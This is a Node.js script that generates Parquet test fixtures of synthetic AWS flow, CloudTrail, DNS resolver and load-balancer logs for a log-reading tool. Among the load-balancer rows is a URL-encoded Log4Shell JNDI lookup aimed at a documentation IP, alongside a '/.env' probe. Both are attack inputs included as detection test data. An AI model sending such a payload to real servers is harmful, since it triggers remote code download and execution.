// SPDX-License-Identifier: Apache-2.0
/*
 * Writes the tables of this folder with the writers of others, and beside each the rows that are in it as lines of JSON, as davy logs has to read
 * them. All in them is made up: addresses and names are those of documentation.
 *
 *     cd "$(mktemp -d)" && npm init -y && npm install hyparquet-writer@0.17 @dsnp/parquetjs@1.8 parquet-wasm@0.8 apache-arrow@21 @duckdb/node-api@1.5
 *     NODE_MODULES=$PWD/node_modules node SOURCE/tests/parquet/write.mjs SOURCE/tests/parquet
 */
import { createRequire } from 'node:module'
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import zlib from 'node:zlib'

const require = createRequire(join(process.env.NODE_MODULES, 'x.js'))
const arrow = require('apache-arrow')
const rust = require('parquet-wasm')
const parquetjs = require('@dsnp/parquetjs')
const { DuckDBInstance } = require('@duckdb/node-api')
const { parquetWriteBuffer } = await import(join(process.env.NODE_MODULES, 'hyparquet-writer/src/node.js'))
const folder = process.argv[2]

/* Nulls are left out, numbers beyond 2^53 are written as they are. */
const json = value => typeof value === 'bigint' ? String(value)
  : Array.isArray(value) ? `[${value.map(json).join()}]`
  : value instanceof Map ? `{${[...value].map(([k, v]) => `${JSON.stringify(k)}:${json(v)}`).join()}}`
  : value && typeof value === 'object' ? `{${Object.entries(value).filter(([, v]) => v !== null && v !== undefined).map(([k, v]) => `${JSON.stringify(k)}:${json(v)}`).join()}}`
  : JSON.stringify(value)

/* KIND.WRITER.parquet has the rows of KIND.jsonl. */
const path = (kind, writer) => join(folder, `${kind}.${writer}.parquet`)
const twin = (kind, rows) => writeFileSync(join(folder, `${kind}.jsonl`), rows.map(row => json(row) + '\n').join(''))
function put(kind, writer, bytes, rows) {
  writeFileSync(path(kind, writer), bytes)
  twin(kind, rows)
}

// ---- flow logs: a machine that tries many, one that mines, one that floods ----

const START = 1772445600
function flow(n, src, dst, sport, dport, protocol, packets, bytes, start, end) {
  return { version: 2, account_id: '111122223333', interface_id: `eni-${n}`, srcaddr: src, dstaddr: dst, srcport: sport, dstport: dport, protocol, packets: BigInt(packets),
    bytes: BigInt(bytes), start: BigInt(start), end: BigInt(end), action: 'ACCEPT', log_status: 'OK' }
}
const flows = []
for (let i = 1; i < 40; i++)
  flows.push(flow(1, '10.0.0.5', `203.0.113.${i}`, 40000 + i, 22, 6, 10, 900, START + i, START + i + 60))
for (let i = 0; i < 30; i++)
  flows.push(flow(2, '10.0.0.6', '203.0.113.99', 41000, 3333, 6, 20, 4000, START + i * 120, START + i * 120 + 60))
flows.push(flow(3, '10.0.0.7', '203.0.113.98', 41000, 53, 17, 4000000, 240000000, START, START + 60))
for (const [i, log_status] of ['NODATA', 'SKIPDATA'].entries())
  flows.push({ ...flow(4 + i, null, null, null, null, null, 0, 0, START, START + 60), packets: null, bytes: null, action: null, log_status })

const FLOW_TYPES = { version: 'INT32', account_id: 'STRING', interface_id: 'STRING', srcaddr: 'STRING', dstaddr: 'STRING', srcport: 'INT32', dstport: 'INT32', protocol: 'INT32',
  packets: 'INT64', bytes: 'INT64', start: 'INT64', end: 'INT64', action: 'STRING', log_status: 'STRING' }
const column = (rows, name) => rows.map(row => row[name] ?? null)

function hyparquet(rows, types, options, encodings = {}) {
  return Buffer.from(parquetWriteBuffer({ compressors: { GZIP: zlib.gzipSync, BROTLI: zlib.brotliCompressSync },
    columnData: Object.entries(types).map(([name, type]) => ({ name, type, data: column(rows, name), encoding: encodings[name] })), ...options }))
}

const ARROW_TYPES = { INT32: new arrow.Int32(), INT64: new arrow.Int64(), STRING: new arrow.Utf8() }
function arrowTable(rows, types) {
  return new arrow.Table(Object.fromEntries(Object.entries(types).map(([name, type]) => [name, arrow.vectorFromArray(column(rows, name), ARROW_TYPES[type] ?? type)])))
}
function arrowRs(table, set) {
  const properties = set(new rust.WriterPropertiesBuilder()).build()
  return Buffer.from(rust.writeParquet(rust.Table.fromIPCStream(arrow.tableToIPC(table, 'stream')), properties))
}
const { Compression, WriterVersion, Encoding } = rust

put('flow', 'hyparquet-gzip', hyparquet(flows, FLOW_TYPES, { codec: 'GZIP' }), flows)
put('flow', 'arrow-v1-snappy', arrowRs(arrowTable(flows, FLOW_TYPES), b => b.setCompression(Compression.SNAPPY).setMaxRowGroupSize(32)), flows)
put('flow', 'arrow-v2-delta-zstd', arrowRs(arrowTable(flows, FLOW_TYPES), b => {
  b = b.setCompression(Compression.ZSTD).setWriterVersion(WriterVersion.V2).setDictionaryEnabled(false).setDataPageSizeLimit(200).setWriteBatchSize(16)
  for (const [name, type] of Object.entries(FLOW_TYPES))
    b = b.setColumnEncoding(name, type !== 'STRING' ? Encoding.DELTA_BINARY_PACKED : name.endsWith('addr') ? Encoding.DELTA_BYTE_ARRAY : Encoding.DELTA_LENGTH_BYTE_ARRAY)
  return b
}), flows)

// ---- every type ----

const times = [0, 1722435826123, 1772445600000]
const iso = (ms, digits) => new Date(ms).toISOString().replace(/\.(\d{3})Z/, (_, f) => f === '000' ? 'Z' : `.${f}${'0'.repeat(digits - 3)}Z`)
const texts = ['', 'ü "quoted" \\ back\nline', '日本語', 'plain', 'plain and more', 'plain and less']
const typed = []
for (let i = 0; i < 90; i++) {
  const some = v => i % 7 === 3 ? null : v
  typed.push({ b: some(i % 3 === 0), i32: some(i % 2 ? -i * 7654321 | 0 : i), i64: some(BigInt(i) ** 8n * (i % 2 ? -1n : 1n) % (1n << 63n)), u64: some((1n << 64n) - 1n - BigInt(i)), u16: some(65535 - i),
    f: some(i / 4), d: some(i * 1.1), s: some(texts[i % texts.length]), same: 'always', date: some(i * 61), ms: some(times[i % 3] + i), us: some(times[i % 3] + i), ns: some(Math.floor((times[i % 3] + i) / 4) * 4), /* the writer counts nanoseconds as real numbers */
    list: i % 5 === 4 ? null : Array.from({ length: i % 4 }, (_, k) => k === 1 ? null : `e${i}.${k}`),
    who: some({ name: `u${i % 9}`, keys: i % 2 ? [{ id: i }, { id: null }] : [], deep: { at: i % 11 === 0 ? null : i } }) })
}
const seen = typed.map(row => ({ ...row, date: row.date === null ? null : new Date(row.date * 86400000).toISOString().slice(0, 10), ms: row.ms === null ? null : iso(row.ms, 3),
  us: row.us === null ? null : iso(row.us, 6), ns: row.ns === null ? null : iso(row.ns, 9) }))
const { Field, Struct, List } = arrow
const who = new Struct([new Field('name', new arrow.Utf8(), true), new Field('keys', new List(new Field('element', new Struct([new Field('id', new arrow.Int32(), true)]), true)), true),
  new Field('deep', new Struct([new Field('at', new arrow.Int32(), true)]), true)])
const TYPES = { b: new arrow.Bool(), i32: new arrow.Int32(), i64: new arrow.Int64(), u64: new arrow.Uint64(), u16: new arrow.Uint16(), f: new arrow.Float32(), d: new arrow.Float64(), s: new arrow.Utf8(),
  same: new arrow.Utf8(), date: new arrow.DateDay(), ms: new arrow.TimestampMillisecond('UTC'), us: new arrow.TimestampMicrosecond('UTC'), ns: new arrow.TimestampNanosecond('UTC'),
  list: new List(new Field('element', new arrow.Utf8(), true)), who }
const source = typed.map(row => ({ ...row, date: row.date === null ? null : new Date(row.date * 86400000) }))
const table = arrowTable(source, TYPES)
for (const [name, codec] of Object.entries({ none: 'UNCOMPRESSED', snappy: 'SNAPPY', gzip: 'GZIP', brotli: 'BROTLI', lz4: 'LZ4', lz4raw: 'LZ4_RAW', zstd: 'ZSTD' })) {
  const v2 = ['gzip', 'brotli', 'lz4raw'].includes(name)
  put('types', `arrow-${v2 ? 'v2' : 'v1'}-${name}`, arrowRs(table, b => b.setCompression(Compression[codec]).setWriterVersion(v2 ? WriterVersion.V2 : WriterVersion.V1).setMaxRowGroupSize(64)
    .setDataPageSizeLimit(400).setWriteBatchSize(32).setStatisticsEnabled(rust.EnabledStatistics.None)), seen)
}

// ---- what only some writers have ----

const odd = []
for (let i = 0; i < 20; i++)
  odd.push({ f: i / 8, d: 1 - i / 3, i32: i * i, i64: BigInt(i) << 33n, id: `00112233-4455-6677-8899-aabbccddee${String(i + 10)}`, raw: i % 2 ? 'text' : 'ff00', half: i / 2, flag: i % 6 < 3 })
put('odd', 'hyparquet-split', hyparquet(odd.map(row => ({ ...row, raw: row.raw === 'text' ? Buffer.from('text') : Buffer.from('ff00', 'hex'), id: row.id })),
  { f: 'FLOAT', d: 'DOUBLE', i32: 'INT32', i64: 'INT64', id: 'UUID', raw: 'BYTE_ARRAY', half: 'FLOAT16', flag: 'BOOLEAN' }, { codec: 'SNAPPY', rowGroupSize: 8 },
  { f: 'BYTE_STREAM_SPLIT', d: 'BYTE_STREAM_SPLIT', i32: 'BYTE_STREAM_SPLIT', i64: 'BYTE_STREAM_SPLIT', flag: 'RLE' }), odd)

// ---- parquetjs: repeated without a list around it ----

async function js(kind, name, fields, rows, expected, options = {}) {
  const writer = await parquetjs.ParquetWriter.openFile(new parquetjs.ParquetSchema(fields), path(kind, name), { rowGroupSize: 16, ...options })
  for (const row of rows)
    await writer.appendRow(row)
  await writer.close()
  twin(kind, expected)
}
const gzip = { optional: true, compression: 'GZIP' }
await js('sorted', 'parquetjs-gzip', Object.fromEntries(Object.entries(FLOW_TYPES).sort().map(([name, type]) => [name, { type: type === 'STRING' ? 'UTF8' : type, ...gzip }])),
  flows.map(row => Object.fromEntries(Object.entries(row).filter(([, v]) => v !== null))), flows.map(row => Object.fromEntries(Object.entries(row).sort(([a], [b]) => a < b ? -1 : 1))))
const questions = []
for (let i = 0; i < 24; i++)
  questions.push({ account_id: '111122223333', answers: Array.from({ length: i % 3 }, (_, k) => ({ Class: 'IN', Rdata: `198.51.100.${i + k}`, Type: 'A' })), query_name: i % 2 ? 'pool.example.' : 'www.example.',
    query_timestamp: iso(times[2] + i * 1000, 3), query_type: 'A', rcode: 'NOERROR', region: 'eu-west-1', srcaddr: '10.0.0.9', srcids: { instance: 'i-0123456789abcdef0' }, vpc_id: 'vpc-0123456789abcdef0' })
const text = { type: 'UTF8', compression: 'SNAPPY' }
await js('resolver', 'parquetjs-v2-snappy', { account_id: text, answers: { repeated: true, fields: { Class: text, Rdata: text, Type: text } }, query_name: text, query_timestamp: text, query_type: text, rcode: text,
  region: text, srcaddr: text, srcids: { fields: { instance: { ...text, optional: true } } }, vpc_id: text }, questions, questions, { useDataPageV2: true })

/* Lists as Hive, Avro's reader of records and old writers have them. */
await js('lists', 'parquetjs-gzip', {
  bag: { type: 'LIST', optional: true, fields: { bag: { repeated: true, fields: { array_element: { type: 'UTF8', ...gzip } } } } },
  tuples: { type: 'LIST', optional: true, fields: { array: { repeated: true, fields: { id: { type: 'INT32', ...gzip } } } } },
  two: { type: 'LIST', optional: true, fields: { array: { type: 'INT32', repeated: true } } },
}, [{ bag: { bag: [{ array_element: 'a' }, {}] }, tuples: { array: [{ id: 1 }, {}] }, two: { array: [1, 2] } }, { tuples: { array: [{ id: 3 }] } }],
[{ bag: ['a', null], tuples: [{ id: 1 }, {}], two: [1, 2] }, { tuples: [{ id: 3 }] }])

// ---- DuckDB: maps, decimals, what Athena gives of CloudTrail ----

const instance = await DuckDBInstance.create(':memory:')
const duck = await instance.connect()
async function duckdb(kind, name, select, options, rows) {
  await duck.run(`COPY (${select}) TO '${path(kind, name)}' (FORMAT parquet, ${options})`)
  twin(kind, rows)
}
const range = n => Array.from({ length: n }, (_, i) => i)
await duckdb('nested', 'duckdb-zstd', `SELECT (i * 1.25)::DECIMAL(9, 2) AS small, (i * -1.5)::DECIMAL(18, 4) AS medium, (i * 1000000007.5 * 1000000000)::DECIMAL(38, 3) AS large,
  MAP {'a': i, 'b': NULL} AS pairs, MAP {i: 'x'} AS numbered, TIME '12:34:56' + to_milliseconds(i) AS at, TIMESTAMP '2026-03-02 10:00:00' + to_seconds(i) AS local, [[i, 2], []] AS lists,
  ('00112233-4455-6677-8899-aabbccddee' || (10 + i))::UUID AS id, '\\xFF\\x00'::BLOB AS raw, NULL::INTEGER AS nothing FROM range(12) t(i)`, `COMPRESSION zstd`, range(12).map(i => ({
  small: (i * 1.25).toFixed(2), medium: (i * -1.5).toFixed(4), large: `${BigInt(i) * 10000000075n * 100000000n}.000`, pairs: new Map([['a', i], ['b', null]]), numbered: { [i]: 'x' },
  at: `12:34:56${i ? `.${String(i).padStart(3, '0')}000` : ''}`, local: `2026-03-02T10:00:${String(i).padStart(2, '0')}`, lists: [[i, 2], []],
  id: `00112233-4455-6677-8899-aabbccddee${10 + i}`, raw: 'ff00' })))

/* CloudTrail as a table of Athena has it: columns in lower case, who it was as a structure, requests as JSON text; and the same as a file of text for comparison. */
const calls = ['ListBuckets', 'GetCallerIdentity', 'CreateAccessKey', 'StopLogging'].map((name, i) => ({ eventversion: '1.08',
  useridentity: { type: 'IAMUser', arn: 'arn:aws:iam::111122223333:user/example', accountid: '111122223333', accesskeyid: 'AKIAIOSFODNN7EXAMPLE', username: 'example' },
  eventtime: `2026-03-02T10:00:0${i}Z`, eventsource: name === 'StopLogging' ? 'cloudtrail.amazonaws.com' : name === 'ListBuckets' ? 's3.amazonaws.com' : 'iam.amazonaws.com', eventname: name,
  awsregion: 'eu-west-1', sourceipaddress: '203.0.113.7', useragent: 'aws-cli/2.15', requestparameters: name === 'StopLogging' ? '{"name":"arn:aws:cloudtrail:eu-west-1:111122223333:trail/example"}' : name === 'CreateAccessKey' ? '{"userName":"other"}' : null,
  eventid: `00000000-0000-4000-8000-00000000000${i}`, eventtype: 'AwsApiCall', recipientaccountid: '111122223333', resources: [{ arn: 'arn:aws:s3:::example', accountid: '111122223333', type: 'AWS::S3::Bucket' }] }))
const literal = v => v === null ? 'NULL' : Array.isArray(v) ? `[${v.map(literal)}]` : typeof v === 'object' ? `{${Object.entries(v).map(([k, x]) => `'${k}': ${literal(x)}`)}}` : typeof v === 'string' ? `'${v}'` : String(v)
const select = rows => rows.map(row => `SELECT ${Object.entries(row).map(([k, v]) => `${literal(v)} AS "${k}"`)}`).join(' UNION ALL ')
await duckdb('trail', 'duckdb-snappy', select(calls), 'COMPRESSION snappy', calls)

/* Requests to a load balancer, as the table of AWS's own documentation names the columns. */
const requests = ['/', '/.env', '/?x=%24%7Bjndi:ldap://203.0.113.9/a%7D'].map((target, i) => ({ type: 'https', time: `2026-03-02T10:00:0${i}.186641Z`, elb: 'app/example/50dc6c495c0c9188', client_ip: '203.0.113.7', client_port: 2817,
  target_ip: '10.0.0.1', target_port: 80, request_processing_time: 0.086, elb_status_code: 200, target_status_code: '200', received_bytes: 34, sent_bytes: 366, request_verb: 'GET',
  request_url: `https://www.example.com:443${target}`, request_proto: 'HTTP/1.1', user_agent: 'curl/7.46.0', ssl_protocol: 'TLSv1.2', domain_name: 'www.example.com' }))
await duckdb('balancer', 'duckdb-gzip', select(requests).replace(/0\.086/g, '0.086::DOUBLE'), 'COMPRESSION gzip', requests)

/* The second version of DuckDB's pages: differences between numbers, lengths of texts. */
await duck.run(`COPY (SELECT * FROM '${path('flow', 'arrow-v1-snappy')}') TO '${path('flow', 'duckdb-v2-zstd')}' (FORMAT parquet, COMPRESSION zstd, PARQUET_VERSION v2)`)

// ---- what is not read ----

await duck.run("SET force_mbedtls_unsafe = 'true'") /* the key is known to all */
await duck.run("PRAGMA add_parquet_key('key', '0123456789012345')")
await duck.run(`COPY (SELECT * FROM '${path('flow', 'arrow-v1-snappy')}' LIMIT 3) TO '${join(folder, 'refused', 'encrypted.duckdb.parquet')}' (FORMAT parquet, ENCRYPTION_CONFIG {footer_key: 'key'})`)
